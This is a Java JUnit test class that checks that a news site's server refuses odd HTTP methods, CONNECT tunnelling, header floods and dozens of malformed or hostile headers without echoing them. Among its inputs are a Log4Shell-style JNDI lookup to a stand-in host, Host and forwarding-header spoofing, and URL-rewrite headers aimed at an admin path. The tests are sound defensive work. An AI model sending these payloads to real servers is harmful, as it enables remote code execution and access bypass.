package org.masthead.house;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.Socket;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.masthead.PaperTest;
import org.masthead.story.Copies;
import org.masthead.story.Stories;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** No header and no method makes a page say anything else than it says, or the paper stumble. */
@PaperTest
class HostileAddressesAndHeadersTest {

    private static final String STORY = "/2026/11/24/the-long-night";
    private static final List<String> EVERYTHING = List.of(
            "/",
            "/latest",
            "/river",
            STORY,
            STORY + "?page=2",
            STORY + "?page=all",
            STORY + "?page=9",
            STORY + ".json",
            "/archive/2026",
            "/archive",
            "/corrections",
            "/feed.xml",
            "/feed.atom",
            "/feed.json",
            "/river/feed.xml",
            "/sitemap.xml",
            "/sitemap-news.xml",
            "/sitemaps/pages.xml",
            "/robots.txt",
            "/.well-known/trust.txt",
            "/latest/",
            "/nowhere",
            "/desk",
            "/favicon.ico",
            "/assets/none.css");

    @LocalServerPort
    int port;

    @Autowired
    Stories stories;

    @Autowired
    Sections sections;

    private Reader reader;

    @BeforeEach
    void aStoryOfThreePages() {
        reader = new Reader(port);
        if (reader.get(STORY).status() == 200) return;
        sections.ensure("River", "");
        stories.publish(stories.draft(Copies.copy("The long night", "river", Copies.pages(3)), Copies.ADA), Copies.ADA);
    }

    @Test
    void theHeadAloneIsTheHeadOfThePage() {
        for (var path : EVERYTHING) {
            for (var round = 0; round < 2; round++) {
                var whole = reader.rawly("GET", path);
                var head = reader.rawly("HEAD", path);
                assertThat(head.text()).as(path).isEmpty();
                assertThat(head.status()).as(path).isEqualTo(whole.status());
                assertThat(lasting(head)).as(path).isEqualTo(lasting(whole));
            }
        }
    }

    private static Map<String, String> lasting(Reader.Answer answer) {
        var headers = new TreeMap<>(answer.headers());
        List.of("Date", "Age", "Cache-Status", "Content-Length", "Transfer-Encoding")
                .forEach(headers::remove);
        return headers;
    }

    @ParameterizedTest
    @ValueSource(strings = {"POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "MKCOL", "LOCK", "PURGE"})
    void aMethodThatNoPageKnowsIsRefusedWithOrWithoutABody(String method) {
        for (var path : EVERYTHING) {
            for (var body : List.of(
                    "\r\n",
                    "Content-Length: 5\r\n\r\nvotes",
                    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\n%zz=%00&a",
                    "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 5\r\n\r\n--x\r\n",
                    "Content-Type: application/json\r\nContent-Length: 1\r\n\r\n{",
                    "Transfer-Encoding: chunked\r\n\r\n5\r\nvotes\r\n0\r\n\r\n")) {
                var answer = reader.say(
                        method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + body);
                assertThat(answer.status()).as(answer.asked()).isIn(200, 301, 400, 403, 404, 405);
                if (answer.status() == 200) assertThat(method).isEqualTo("OPTIONS");
                harmless(answer);
            }
        }
        assertThat(reader.get(STORY).status()).isEqualTo(200);
    }

    @Test
    void whatIsTracedIsNotEchoed() {
        var answer =
                reader.say("TRACE / HTTP/1.1\r\nHost: localhost\r\nCookie: secret=zqzqzq\r\nConnection: close\r\n\r\n");
        assertThat(answer.text()).doesNotContain("zqzqzq");
        assertThat(answer.status()).isIn(400, 405);
    }

    @Test
    void nobodyIsTunnelledAnywhere() throws IOException {
        for (var target : List.of("localhost:22", "evil.example:443", "/", "http://evil.example/")) {
            try (var socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
                socket.setSoTimeout(10_000);
                socket.getOutputStream().write(("CONNECT " + target + " HTTP/1.1\r\nHost: a\r\n\r\n").getBytes(UTF_8));
                assertThat(new String(socket.getInputStream().readNBytes(12), UTF_8))
                        .isEqualTo("HTTP/1.1 400");
            }
        }
    }

    static Stream<String> headers() {
        var thousand = IntStream.range(0, 1_000).mapToObj(i -> "0-" + i).collect(Collectors.joining(","));
        return Stream.of(
                "Range: bytes=0-9",
                "Range: bytes=0-9,20-29",
                "Range: bytes=-1",
                "Range: bytes=9-0",
                "Range: bytes=0-99999999999999999999",
                "Range: bytes=" + thousand,
                "Range: lines=1-2",
                "Range: ,,,",
                "If-Range: \"zqzqzq\"",
                "If-Match: \"zqzqzq\"",
                "If-Unmodified-Since: Mon, 01 Jan 1990 00:00:00 GMT",
                "If-None-Match: zqzqzq",
                "If-None-Match: \"",
                "If-None-Match: W/",
                "If-None-Match: \"\",\"\",,W/\"",
                "If-None-Match: " + "\"a\",".repeat(1_000),
                "If-Modified-Since: yesterday",
                "If-Modified-Since: Mon, 32 Foo 0000 99:99:99 GMT",
                "If-Modified-Since: 99999999999999999999",
                "Accept: zqzqzq",
                "Accept: */*;q=zqzqzq",
                "Accept: text/html;q=0, */*;q=0",
                "Accept: application/json",
                "Accept: " + "a/b,".repeat(1_500),
                "Accept-Encoding: zqzqzq, br;q=2, gzip;q=-1, *;q=0",
                "Accept-Encoding: identity;q=0, *;q=0",
                "Accept-Encoding: gzip;q=nan, zstd;q=1e9, br;;;",
                "Accept-Encoding: " + "gzip,".repeat(1_200),
                "Accept-Charset: utf-7",
                "Accept-Language: zqzqzqzqzq-" + "x".repeat(2_000),
                "Accept-Language: *;q=-1, \u00ff\u00fe",
                "Host: evil.example",
                "Host: [::1]:80",
                "X-Forwarded-Host: evil.example",
                "X-Forwarded-Proto: javascript",
                "X-Forwarded-Port: -1",
                "X-Forwarded-Port: zqzqzq",
                "X-Forwarded-For: zqzqzq, 999.999.999.999",
                "X-Forwarded-Prefix: //evil.example",
                "X-Forwarded-Ssl: zqzqzq",
                "Forwarded: for=\"_zqzqzq\";host=evil.example;proto=zqzqzq",
                "X-Original-URL: /desk",
                "X-Rewrite-URL: /desk",
                "X-HTTP-Method-Override: DELETE",
                "Content-Type: zqzqzq",
                "Content-Type: ;;;",
                "Content-Type: text/html; charset=zqzqzq",
                "Content-Encoding: gzip",
                "Cookie: " + "a=b; ".repeat(1_000),
                "Cookie: \"; $Version=zqzqzq; JSESSIONID=\u0001",
                "Authorization: Basic zqzqzq",
                "Authorization: Bearer",
                "Upgrade: h2c",
                "Upgrade: websocket",
                "Expect: zqzqzq",
                "Expect: 100-continue",
                "TE: trailers, zqzqzq",
                "Trailer: Host",
                "Origin: null",
                "Referer: javascript:zqzqzq",
                "User-Agent: \u00ff${jndi:ldap://evil.example/zqzqzq}",
                "Max-Forwards: -1",
                "Pragma: zqzqzq",
                "Cache-Control: only-if-cached, max-age=-1, no-transform=\"zqzqzq",
                "Via: 1.1 evil.example",
                "Purpose: prefetch",
                "Service-Worker: script",
                "Last-Event-ID: zqzqzq",
                "X: ",
                "X: " + "y".repeat(6_000));
    }

    @ParameterizedTest
    @MethodSource("headers")
    void aHeaderBringsThePageOrARefusal(String header) {
        for (var path : List.of(STORY, "/feed.xml", STORY + ".json", "/nowhere", "/latest/", "/")) {
            var host = header.startsWith("Host:") ? "" : "Host: localhost\r\n";
            var answer = reader.say("GET " + path + " HTTP/1.1\r\n" + host + header + "\r\nConnection: close\r\n\r\n");
            harmless(answer);
            assertThat(answer.headers().toString()).as(header + " " + path).doesNotContain("evil.example", "zqzqzq");
            if (answer.header("Content-Encoding").isEmpty()) {
                assertThat(answer.text()).as(header + " " + path).doesNotContain("evil.example", "zqzqzq");
            }
        }
        assertThat(reader.get(STORY).words()).contains("Chapter 1").doesNotContain("zqzqzq");
    }

    @Test
    void aFloodOfHeadersIsRefusedAndTheNextReaderServed() {
        for (var flood : List.of("X-Flood: y\r\n".repeat(20_000), "X-Flood: " + "y".repeat(300_000) + "\r\n")) {
            answerOrEnd("GET / HTTP/1.1\r\nHost: localhost\r\n" + flood + "\r\n")
                    .ifPresent(answer -> {
                        assertThat(answer.status()).isEqualTo(431);
                        harmless(answer);
                    });
        }
        assertThat(reader.get(STORY).status()).isEqualTo(200);
    }

    /** Whoever goes on talking after the server has hung up may not hear its answer. */
    private Optional<Reader.Answer> answerOrEnd(String said) {
        try {
            return Optional.of(reader.say(said));
        } catch (UncheckedIOException | IllegalStateException hungUp) {
            return Optional.empty();
        }
    }

    private static void harmless(Reader.Answer answer) {
        assertThat(answer.status()).as(answer.asked()).isBetween(100, 499);
        assertThat(answer.tells()).as(answer.text()).isFalse();
        assertThat(answer.missingSafety())
                .as(answer.asked() + " got " + answer.status())
                .isEmpty();
    }
}
